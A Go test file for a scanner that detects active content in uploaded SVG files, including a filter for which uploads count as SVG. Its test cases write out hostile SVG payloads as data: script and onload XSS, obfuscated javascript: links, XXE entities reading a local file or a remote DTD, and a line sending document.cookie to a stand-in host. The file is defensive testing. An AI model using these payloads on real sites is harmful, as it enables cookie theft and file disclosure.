package model

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// TestSVGActiveBenignExports: the drawings editors export run nothing, so
// nothing of them is scored.
func TestSVGActiveBenignExports(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.Join("testdata", "svg", "benign-*.svg"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no benign SVG files: %v", err)
	}
	for _, f := range files {
		doc, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if got := svgActive(string(doc)); len(got) > 0 {
			t.Errorf("%s: active parts %q, want none", f, got)
		}
	}
}

func TestSVGActive(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, doc string
		want      []string
	}{
		{"script element", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`,
			[]string{"<script>alert(document.domain)</script>"}},
		{"namespaced script with CDATA", `<svg:svg><svg:script type="text/ecmascript"><![CDATA[fetch('//x.example/'+document.cookie)]]></svg:script></svg:svg>`,
			[]string{"<script><![CDATA[fetch('//x.example/'+document.cookie)]]></script>"}},
		{"event handler, entity-encoded", `<svg onload="&#97;lert(1)" width="10"><rect/></svg>`,
			[]string{`<svg onload="alert(1)">`}},
		{"xlink javascript link", `<svg><a xlink:href=" java&#x09;script:alert(1)"><text>x</text></a></svg>`,
			[]string{"<a href=\" java\tscript:alert(1)\">"}},
		{"animate to a script link", `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>`,
			[]string{`<animate values="javascript:alert(1)">`}},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg><text>&xxe;</text></svg>`,
			[]string{`<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>`}},
		{"parameter entity", `<!DOCTYPE svg [<!ENTITY % dtd "http://203.0.113.9/x.dtd"> %dtd;]><svg/>`,
			[]string{`<!DOCTYPE svg [<!ENTITY % dtd "http://203.0.113.9/x.dtd"> %dtd;]>`}},
		{"iframe in foreignObject", `<svg><foreignObject><iframe src="https://203.0.113.9/"></iframe></foreignObject></svg>`,
			[]string{"<iframe>"}},
		{"internal entities only", `<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg/>`, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := svgActive(tc.doc); !slices.Equal(got, tc.want) {
				t.Errorf("svgActive = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestSVGUpload(t *testing.T) {
	t.Parallel()
	tests := []struct {
		filename, contentType, content string
		want                           bool
	}{
		{"logo.svg", "application/octet-stream", "x", true},
		{"LOGO.SVGZ", "", "x", true},
		{"blob", "image/svg+xml; charset=utf-8", "x", true},
		{"blob", "", "\n <svg xmlns=\"http://www.w3.org/2000/svg\"/>", true},
		{"blob", "", `<?xml version="1.0"?><svg/>`, true},
		{"data.xml", "text/xml", `<?xml version="1.0"?><order/>`, false},
		{"photo.png", "image/png", "\x89PNG", false},
	}
	for _, tc := range tests {
		if got := svgUpload(tc.filename, tc.contentType, []byte(tc.content)); got != tc.want {
			t.Errorf("svgUpload(%q, %q) = %v, want %v", tc.filename, tc.contentType, got, tc.want)
		}
	}
}
